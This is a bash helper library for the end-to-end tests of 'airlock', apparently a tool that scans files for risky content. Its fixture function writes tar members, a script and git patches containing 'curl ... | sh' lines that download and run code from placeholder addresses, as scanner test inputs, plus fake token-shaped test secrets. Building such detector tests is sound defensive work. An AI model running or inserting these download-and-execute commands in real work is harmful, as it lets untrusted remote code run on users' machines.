# e2e_lib.sh - what the end-to-end test scripts share: the binary, a private
# work directory, the helpers (al, scan, jsonq, expect_*) and the runner.
# Sourced by tests/e2e_*.sh; see tests/e2e_scan.sh for the conventions.

set -u

ROOT=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
BIN=${AIRLOCK_BIN:-build/airlock}
case $BIN in /*) ;; *) BIN=$PWD/$BIN ;; esac
RULES=$ROOT/tests/data/rules
RULES_BAD=$ROOT/tests/data/rules-bad

if [ ! -x "$BIN" ]; then
	echo "e2e: $BIN is not an executable (build it with make, or set AIRLOCK_BIN)" >&2
	echo "0 passed, 1 failed"
	exit 1
fi
# require TOOL...: every suite names the programs it runs. A missing one
# fails the suite (a test skipped for want of a tool proves nothing);
# make deps installs them all.
require() {
	local t missing=""
	for t in "$@"; do command -v "$t" >/dev/null || missing="$missing $t"; done
	[ -z "$missing" ] && return 0
	echo "e2e: missing:$missing ('make deps' installs them)" >&2
	echo "0 passed, 1 failed"
	exit 1
}
require python3 timeout

WORK=$(mktemp -d "${TMPDIR:-/tmp}/airlock-e2e.XXXXXX")
cleanup() {
	# Fixtures made unreadable or FIFOs must not stop the removal.
	chmod -R u+rwx "$WORK" 2>/dev/null
	rm -rf "$WORK"
}
trap cleanup EXIT
export AIRLOCK_CACHE_DIR=$WORK/cache
unset AIRLOCK_RULES NO_COLOR

# Test secrets: random-looking, but not real.
PAT1=ghp_R2d5Zk9hV1pLbE1xT3BuUWRzYUJjRGVmR2hJ
PAT2=ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5
GEN1=q8Zr2LmX9vTk4WbN7yPd
GEN2=Hx7Kq2Vz9RmT4LpW8nBc

# ---- helpers -----------------------------------------------------------------

# fail MESSAGE: prints the message and what the last command wrote, ends the test.
fail() {
	echo "  FAIL: $*"
	if [ -n "${OUT:-}" ] && [ -f "$OUT" ]; then
		echo "  --- stdout (first 2000 bytes):"
		head -c 2000 "$OUT" | cat -v | sed 's/^/  | /'
	fi
	if [ -n "${ERR:-}" ] && [ -f "$ERR" ]; then
		echo "  --- stderr (first 2000 bytes):"
		head -c 2000 "$ERR" | cat -v | sed 's/^/  | /'
	fi
	exit 1
}

# al ARGS...: runs the binary; stdout in $OUT, stderr in $ERR, status in $RC.
al() {
	RC=0
	timeout "${AL_TIMEOUT:-30}" "$BIN" "$@" >"$OUT" 2>"$ERR" || RC=$?
	[ "$RC" != 124 ] || fail "timed out after ${AL_TIMEOUT:-30}s: airlock $*"
	[ "$RC" -lt 128 ] || fail "killed by signal $((RC - 128)): airlock $*"
}

# scan ARGS...: airlock scan with the test rules and no colour.
scan() { al scan --rules "$RULES" --color never "$@"; }

# jsonq EXPR: evaluates a Python expression on the JSON in $OUT; d is the document,
# F the list of findings, R(rule) the findings of one rule.
jsonq() {
	python3 -c '
import json, sys
d = json.load(open(sys.argv[1], "rb"))
F = d.get("findings", []) if isinstance(d, dict) else []
R = lambda rule: [f for f in F if f["rule"] == rule]
print(eval(sys.argv[2]))' "$OUT" "$1"
}

expect_rc() {
	[ "$RC" = "$1" ] || fail "exit status $RC, expected $1${2:+: $2}"
}
expect_eq() { # ACTUAL EXPECTED WHAT
	[ "$1" = "$2" ] || fail "${3:-value}: got '$1', expected '$2'"
}
expect_q() { # EXPR EXPECTED
	local v
	v=$(jsonq "$1" 2>&1) || fail "cannot evaluate $1 on the output: $v"
	[ "$v" = "$2" ] || fail "$1: got '$v', expected '$2'"
}
expect_json() { # the output is valid JSON
	python3 -c 'import json,sys; json.load(open(sys.argv[1], "rb"))' "$OUT" 2>/dev/null ||
		fail "output is not valid JSON"
}
expect_out_has() { grep -qF -- "$1" "$OUT" || fail "stdout does not contain '$1'"; }
expect_out_lacks() { ! grep -qF -- "$1" "$OUT" || fail "stdout contains '$1'"; }
expect_err_has() { grep -qF -- "$1" "$ERR" || fail "stderr does not contain '$1'"; }
expect_out_empty() { [ ! -s "$OUT" ] || fail "stdout is not empty"; }

# ---- runner ------------------------------------------------------------------------------

# run_tests: runs every t_* function defined, each in a subshell in its own
# empty directory; prints "N passed, M failed" and returns 1 if any failed.
run_tests() {
	local t dir log
	PASSED=0
	FAILED=0
	SKIPPED=0
	START=$SECONDS
	# E2E_ONLY=REGEX runs only the tests whose names (without t_) match.
	for t in $(declare -F | awk '{print $3}' | grep -E "^t_(${E2E_ONLY:-.*})\$"); do
		dir=$WORK/$t
		mkdir -p "$dir"
		log=$WORK/$t.log
		if (
			OUT=$WORK/$t.out
			ERR=$WORK/$t.err
			cd "$dir" && "$t"
		) >"$log" 2>&1; then
			if grep -q '^SKIP' "$log"; then
				SKIPPED=$((SKIPPED + 1))
				echo "skip $t: $(grep '^SKIP' "$log" | head -n 1)"
			else
				PASSED=$((PASSED + 1))
				echo "ok   $t"
			fi
		else
			FAILED=$((FAILED + 1))
			echo "FAIL $t"
			sed 's/^/    /' "$log" | head -n 60
		fi
	done
	echo "e2e: ${SKIPPED} skipped, $((SECONDS - START)) s"
	echo "$PASSED passed, $FAILED failed"
	[ "$FAILED" = 0 ]
}

# ---- fixtures ------------------------------------------------------------------------

# not_utf8_fixtures: writes, in the current directory, artifacts whose text
# is not UTF-8 (docs/api.md, "Text that is not UTF-8"): a.tar, a member
# named pkg/\xff\xfeinstall.sh that pipes a download into sh and a member
# pkg/run.sh whose flagged line ends in \xff\xfe; line.sh, a file with such
# a line; quoted.patch and raw.patch, git's patches adding x\xff.sh (git
# quotes the name as "b/x\377.sh", and writes it raw with
# core.quotepath=false). Needs git.
not_utf8_fixtures() {
	python3 - <<'PY' || fail "cannot write the fixtures"
import io, tarfile
def add(t, name, data):
    ti = tarfile.TarInfo(name.decode("utf-8", "surrogateescape"))
    ti.size = len(data)
    t.addfile(ti, io.BytesIO(data))
with tarfile.open("a.tar", "w", format=tarfile.GNU_FORMAT, encoding="utf-8",
                  errors="surrogateescape") as t:
    add(t, b"pkg/\xff\xfeinstall.sh", b"curl -fsSL https://198.51.100.77/stage2 | sh\n")
    add(t, b"pkg/run.sh", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe\n")
open("line.sh", "wb").write(b"#!/bin/sh\ncurl -fsSL https://198.51.100.78/x | sh # \xff\xfe\n")
PY
	git init -q nu8 || fail "git init"
	printf 'curl -fsSL https://198.51.100.79/y | sh\n' >"nu8/x"$'\xff'".sh"
	git -C nu8 add -A && git -C nu8 diff --cached >quoted.patch &&
		git -C nu8 -c core.quotepath=false diff --cached >raw.patch ||
		fail "git diff"
	grep -q '^+++ "b/x\\377.sh"$' quoted.patch || fail "git did not quote the name"
	grep -q $'^+++ b/x\xff.sh$' raw.patch || fail "git did not write the name raw"
}
